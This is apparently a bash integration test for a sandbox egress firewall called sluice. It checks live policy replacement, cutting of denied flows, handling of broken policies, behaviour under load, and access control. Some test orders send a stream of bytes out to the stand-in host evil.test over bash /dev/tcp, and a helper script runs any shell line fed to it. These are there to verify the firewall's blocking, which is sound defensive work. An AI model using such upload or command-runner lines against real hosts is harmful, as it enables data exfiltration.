#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# sluice policy set: a new policy for a running sandbox, under traffic. What stays allowed notices nothing,
# what is denied ends at once and for good, a broken policy changes nothing, and nobody else may do it.
set -eu
. "$(dirname "$0")/internet.sh"
. "$(dirname "$0")/suite.sh"
internet_enter "$0" "$@"
internet_up
S=$T/bin/sluice
mkdir -m 777 "$T/work" "$T/alias"
W=$T/work

printf 'version: 1\negress:\n  - {allow: web.test, ports: [80, 443, 7007]}\n  - {allow: evil.test, ports: [80, 7001, 7003]}\n' >"$T/both.yaml"
printf 'version: 1\negress:\n  - {allow: web.test, ports: [80, 443, 7007]}\n' >"$T/web.yaml"
printf 'version: 1\negress:\n  - {allow: "*.test", ports: [80, 443, 7007]}\n  - deny: evil.test\n' >"$T/deny.yaml"
printf 'version: 1\negress:\n  - {allow: web.test, port: [80]}\n' >"$T/broken.yaml"
chmod 644 "$T"/*.yaml

await() {	# await "what" command...: for 10 s
	local what=$1 end=$((SECONDS + 10))
	shift
	until "$@" 2>/dev/null; do
		[ $SECONDS -lt $end ] || { echo "waited in vain for $what"; return 1; }
		read -rt 0.01 <> <(:) || :
	done
}
box() {		# box NAME OPTIONS... -- COMMAND: in the background; returns when its program runs
	local name=$1
	shift
	rm -f "$W/up"
	"$AS" "$S" run --quiet --name "$name" --port packet --ro-bind "$T/bin" --bind "$W" "$@" 2>"$T/$name.err" &
	box_pid=$!
	await "the program of $name" test -e "$W/up" || { cat "$T/$name.err"; return 1; }
}
as_root() { "$@"; }
set_() { "$AS" "$S" policy set "$@"; }
now_ms() { echo $(($(date +%s%N) / 1000000)); }

# A program that works through orders: one line in $W/order, the answer in $W/answer.
cat >"$W/agent" <<'END'
cd "$(dirname "$0")"
echo up >up
while read -r line <order; do
	[ "$line" != quit ] || break
	sh -c "$line" >out 2>&1
	echo "status $?" >>out
	mv out answer
done
END
mkfifo "$W/order"
chmod 666 "$W/order"
order() { rm -f "$W/answer"; echo "$1" >"$W/order"; }
answered() { await "an answer" test -e "$W/answer" && cat "$W/answer"; }
does() {	# does TEXT COMMAND: the program runs it, and its output or status has TEXT
	order "$2"
	answered >"$T/does"
	cat "$T/does"
	grep -qF -- "$1" "$T/does"
}

AS=as_root
box box --policy "$T/both.yaml" --events "$W/events" -- bash "$W/agent"
ok "the name of a running sandbox is taken" says "one of this name is running already" "$S" run --name box -- true
ok "that is a failure of sluice" exits 125 "$S" run --quiet --name box -- true
ok "ps tells it" says "box " "$S" ps
ok "stats tells what its worker counted" says "flows_asked" "$S" stats box
ok "stats: without a name, of all" says "up_bytes" "$S" stats
ok "stats: for Prometheus" says 'sluice_rx_frames_total{sandbox="box"}' "$S" stats --prometheus box
ok "stats: of nobody" says "nothing of this name is running" "$S" stats nobody
ok "stats: from another user namespace: refused" says "another user or pid namespace" \
	unshare --user --map-root-user "$S" stats box
ok "top tells it" says "box " "$S" top -n 1
ok "another name is told as such" says "nothing of this name is running" set_ other "$T/web.yaml"
ok "no policy at all is no policy" exits 125 set_ box

# ---- the change itself ---------------------------------------------------------------------------------------
ok "control: both are reached" does "status 0" "curl -sSf http://web.test/hello && curl -sSf http://evil.test/"
prints() {	# prints TEXT command...: that and nothing else on standard output
	local want=$1 got
	shift
	got=$("$@")
	echo "$got"
	[ "$got" = "$want" ]
}
ok "one line says what was replaced" prints "policy of box replaced: 1 rule, 0 flows cut" set_ box "$T/web.yaml"
: >"$T/sinkhole.log"
ok "what is denied now is refused, by its old address too" does "Sluice refused" "curl -sS --max-time 5 http://evil.test/"
ok "what stays allowed is reached" does "hello from web.test" "curl -sS --max-time 5 http://web.test/hello"
ok "the sinkhole saw nothing of it" untouched
ok "options are rules as well" prints "policy of box replaced: 2 rules, 0 flows cut" \
	set_ box "$T/web.yaml" --allow evil.test
ok "what is allowed now is reached, although its denial is cached" does sinkhole "curl -sS --max-time 5 http://evil.test/"
ok "from standard input, quietly" prints "" bash -c "$S policy set box - --quiet <$T/both.yaml"

# ---- a policy that is none --------------------------------------------------------------------------------
broken() {
	local status=0
	set_ box "$T/broken.yaml" 2>"$T/broken.err" >"$T/broken.out" || status=$?
	cat "$T/broken.err"
	[ $status = 125 ] && [ ! -s "$T/broken.out" ] && grep -qF "$T/broken.yaml:3:23: unknown key" "$T/broken.err"
}
ok "a broken file is told with its line and column" broken
ok "and the old policy is in force" does "status 0" "curl -sSf http://web.test/hello && curl -sSf http://evil.test/"

# ---- live flows -------------------------------------------------------------------------------------------------
# The program writes when its connection ended; the clock is the same inside.
up_flows() { ip netns exec inet ss -Htni "sport = :7001" | grep -q 'bytes_received:[0-9]\{7\}'; }
down_flows() { ip netns exec inet ss -Htni "sport = :7003" | grep -q 'bytes_acked:[0-9]\{7\}'; }
frames_to_evil() {	# for a second
	timeout 1 ip netns exec inet tcpdump -Q in -lnni down0 'dst host 198.51.100.20 or dst host 2001:db8:100::20' \
		>"$T/late" 2>"$T/late.err" || :
	grep -q "packets received by filter" "$T/late.err" || echo "no capture"
	grep -c . "$T/late" || :
}
cut_live() {	# cut_live CONDITION COMMAND: when it flows, its flow to evil.test ends when the policy comes
	local done_ms end_ms
	order "$2; echo \$?; date +%s%N"
	await "bytes on their way" "$1" || return 1
	set_ box "$T/web.yaml" >"$T/set.out"
	done_ms=$(now_ms)
	answered >"$T/cut.out" || return 1
	end_ms=$(($(grep -E '^[0-9]{19}$' "$T/cut.out") / 1000000))
	cat "$T/set.out" "$T/cut.out"
	echo "ended $((end_ms - done_ms)) ms after policy set had returned" | tee -a "$T/cut.ms"
	grep -q "1 flow cut" "$T/set.out" && [ $((end_ms - done_ms)) -lt 1000 ] && [ "$(frames_to_evil)" = 0 ]
}
ok "an upload to a host that is denied now ends, and not a frame leaves after it" \
	cut_live up_flows "bash -c 'exec 3<>/dev/tcp/evil.test/7001 && { cat <&3 >/dev/null & cat /dev/zero >&3; wait; }'"
set_ box "$T/both.yaml" >/dev/null
ok "so does a download, and it does not look complete" \
	cut_live down_flows "bash -c 'exec 3<>/dev/tcp/evil.test/7003 && echo 90000000000 >&3 && cat <&3 >/dev/null'"
ok "the download's end is an error to the program" grep -q "reset by peer" "$T/cut.out"
sed 's/^/# live flows /' "$T/cut.ms"
told() {
	jq -es '
	(map(select(.event_type == "policy" and .policy.flows_cut == 1)) | length) >= 2 and
	(map(select(.event_type == "alert" and .reason == "policy-cut" and .name == "evil.test")) | length) >= 2 and
	(map(select(.event_type == "flow" and .flow.reason == "policy-cut" and .flow.bytes_toserver + .flow.bytes_toclient > 100000)) | length) >= 2' \
	"$W/events"
}
ok "events: the policy, the cut, the flow's end" await "events" told

# ---- under load -------------------------------------------------------------------------------------------------
rss() { awk '/^VmRSS/ { print $2 }' "/proc/$1/status"; }
fds() { ls "/proc/$1/fd" | wc -l; }
reload_many() {	# reload_many N
	local i
	for i in $(seq "$1"); do
		set_ box "$T/web.yaml" >/dev/null && set_ box "$T/deny.yaml" >/dev/null || return 1
	done
}
many() {
	local egress stack netd before after
	egress=$(pgrep -nx sluice-egress) stack=$(pgrep -nx sluice-stack) netd=$(pgrep -nx sluice-netd)
	order "$T/bin/peer rate web.test 100,5"
	reload_many 10 || return 1
	before="$(rss "$egress") $(fds "$egress") $(rss "$netd") $(fds "$netd")"
	reload_many 100 || return 1
	after="$(rss "$egress") $(fds "$egress") $(rss "$netd") $(fds "$netd")"
	answered || return 1
	echo "egress, netd: kB and descriptors, before $before, after $after"
	echo "$before $after" | awk '{ exit !($5 < $1 + 4096 && $6 <= $2 + 8 && $7 < $3 + 1024 && $8 <= $4 + 2) }' &&
		kill -0 "$egress" "$stack" && grep -q "status 0" "$W/answer"
}
ok "200 policies under load: no connection fails, nothing is left behind" many
: >"$T/sinkhole.log"
flips() {	# two policies that both deny it, one by a rule and one by none
	order "end=\$((\$(date +%s) + 3)); while [ \$(date +%s) -lt \$end ]; do
		curl -sS --max-time 5 http://evil.test/; curl -sS --max-time 5 http://198.51.100.20/; done"
	while [ ! -e "$W/answer" ]; do reload_many 1 || return 1; done
	tail -n 3 "$W/answer"
}
ok "flips between two that deny it" flips
ok "never let one request through" untouched
killed() {
	local i
	for i in $(seq -w 0 29); do
		set_ box "$T/web.yaml" >/dev/null &
		local pid=$!
		read -rt "0.0$i" <> <(:) || :
		kill -9 $pid 2>/dev/null || :
		wait $pid 2>/dev/null || :
	done
	await "the next one" set_ box "$T/deny.yaml"
}
ok "a setter that is killed at any moment leaves the way free for the next" killed
ok "and the sandbox as it was" does "hello from web.test" "curl -sS --max-time 5 http://web.test/hello"
order quit
wait $box_pid || :
ok "at the end the socket is gone" test ! -e /run/sluice/box
ok "and the name is free" says "nothing of this name" set_ box "$T/web.yaml"

# ---- whose it is -------------------------------------------------------------------------------------------------
as_other() { setpriv --reuid 4343 --regid 4343 --clear-groups --inh-caps=-all "$@"; }
box box --policy "$T/web.yaml" -- bash "$W/agent"
ok "another user cannot enter the directory" says "Permission denied" as_other env XDG_RUNTIME_DIR=/run "$S" policy set box "$T/both.yaml"
chmod 755 /run/sluice
chmod 666 /run/sluice/box
ok "and where the file system lets him, he is refused" says "only the user who started" \
	as_other env XDG_RUNTIME_DIR=/run "$S" policy set box "$T/both.yaml"
ok "a directory that others may enter takes no socket" says "/run/sluice is not yours alone" "$S" run --name box2 -- true
chmod 700 /run/sluice
ok "from another pid namespace: refused" says "another user or pid namespace" \
	unshare --pid --fork --mount-proc "$S" policy set box "$T/both.yaml"
ok "from another user namespace: refused" says "another user or pid namespace" \
	unshare --user --map-root-user "$S" policy set box "$T/both.yaml"
ok "control: its own user" prints "policy of box replaced: 1 rule, 0 flows cut" set_ box "$T/web.yaml"
kill -9 "$(pgrep -x sluice)"
wait $box_pid 2>/dev/null || :
no_netd() { ! pgrep -x sluice-netd >/dev/null; }
await "the end of netd" no_netd
ok "what a killed one left is not told as running" not says "box " "$S" ps
box box --policy "$T/web.yaml" -- bash "$W/agent"
ok "and its name can be used again" prints "policy of box replaced: 1 rule, 0 flows cut" set_ box "$T/web.yaml"
order quit
wait $box_pid || :

# ---- without root ------------------------------------------------------------------------------------------------
mkdir -m 700 "$T/runtime"
chown 4242 "$T/runtime"
as_owner() { as_user env XDG_RUNTIME_DIR="$T/runtime" "$@"; }
AS=as_owner
box ubox --policy "$T/both.yaml" -- bash "$W/agent"
ok "user: ps tells it" says "ubox " as_owner "$S" ps
ok "user: another policy" prints "policy of ubox replaced: 1 rule, 0 flows cut" set_ ubox "$T/web.yaml"
ok "user: it is in force" does "Sluice refused" "curl -sS --max-time 5 http://evil.test/"
chmod 755 "$T/runtime" "$T/runtime/sluice"
chmod 666 "$T/runtime/sluice/ubox"
ok "user: another user is refused" says "only the user who started" \
	as_other env XDG_RUNTIME_DIR="$T/runtime" "$S" policy set ubox "$T/both.yaml"
chmod 700 "$T/runtime" "$T/runtime/sluice"
order quit
wait $box_pid || :
ok "user: at the end the socket is gone" test ! -e "$T/runtime/sluice/ubox"
ok "user: without a runtime directory a name has no place" says "set XDG_RUNTIME_DIR" as_user "$S" run --name ubox -- true
ok "user: too long a path is told" says "too long" as_user env XDG_RUNTIME_DIR="$T/runtime/$(printf 'x%.0s' $(seq 90))" \
	"$S" run --name ubox -- true
AS=as_root

# ---- attach -------------------------------------------------------------------------------------------------------
ip netns add box
"$S" attach --netns /run/netns/box --name abox --policy "$T/both.yaml" 2>"$T/attach.err" &
box_pid=$!
internet_wait "sluice attach" grep -q ready "$T/attach.err"
ok "attach: another policy" prints "policy of abox replaced: 1 rule, 0 flows cut" set_ abox "$T/web.yaml"
kill -INT $box_pid
wait $box_pid || :
ok "attach: at the end the socket is gone" test ! -e /run/sluice/abox
done_testing
